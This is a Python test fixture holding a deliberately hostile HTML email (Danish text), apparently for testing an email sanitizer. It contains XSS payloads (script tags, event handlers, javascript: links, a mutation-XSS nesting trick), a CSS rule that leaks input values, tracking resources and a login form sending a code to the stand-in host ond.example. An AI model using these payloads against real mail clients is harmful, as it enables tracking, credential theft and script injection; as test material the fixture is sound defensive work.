"""The HTML of a mail that tries everything: script, styles that tell, frames, forms, refreshes, a huge table."""

from __future__ import annotations

HOSTILE = (
    """
<html><head><meta http-equiv="refresh" content="0; url=https://ond.example/refresh">
<link rel="stylesheet" href="https://ond.example/a.css"><link rel="prefetch" href="https://ond.example/prefetch">
<base href="https://ond.example/"><style>@import url(https://ond.example/b.css);
body { background: url(https://ond.example/c.png) } @font-face { font-family: x; src: url(https://ond.example/f.woff) }
input[value^="a"] { background: url(https://ond.example/leak?a) }</style>
<script>parent.document.title = "pwned"; fetch("https://ond.example/script")</script></head>
<body onload="top.location='https://ond.example/onload'" background="https://ond.example/bg.png">
<p>Kære Bo, harmløs tekst</p>
<p style="background:url(https://ond.example/style.png);position:fixed;top:0;left:0;width:9999px;height:9999px">fast</p>
<img src="https://ond.example/track.gif" srcset="https://ond.example/set.png 2x"><img src=x onerror="parent.pwned=1">
<svg onload="parent.pwned=2"><image href="https://ond.example/svg.png"/><use href="data:image/svg+xml,<svg/>"/></svg>
<video poster="https://ond.example/poster.png" src="https://ond.example/v.mp4" autoplay></video>
<iframe src="https://ond.example/frame"></iframe><iframe srcdoc="<script>parent.pwned=3</script>"></iframe>
<object data="https://ond.example/object"></object><embed src="https://ond.example/embed">
<form action="https://ond.example/form"><input name="code" autofocus onfocus="parent.pwned=4">
<button>Log ind</button></form>
<a id="js" href="javascript:parent.pwned=5">et link</a>
<a href="data:text/html,<script>opener.pwned=6</script>">to links</a>
<math><mtext><table><mglyph><style><img src=x onerror="parent.pwned=7"></style></mglyph></table></mtext></math>
<a href="https://anden.example/side" ping="https://ond.example/ping">en side</a>
<table>"""
    + "<tr>"
    + "<td>x</td>" * 50
    + "</tr>" * 200
    + """</table><img src="cid:logo" alt="vores"></body></html>
"""
)
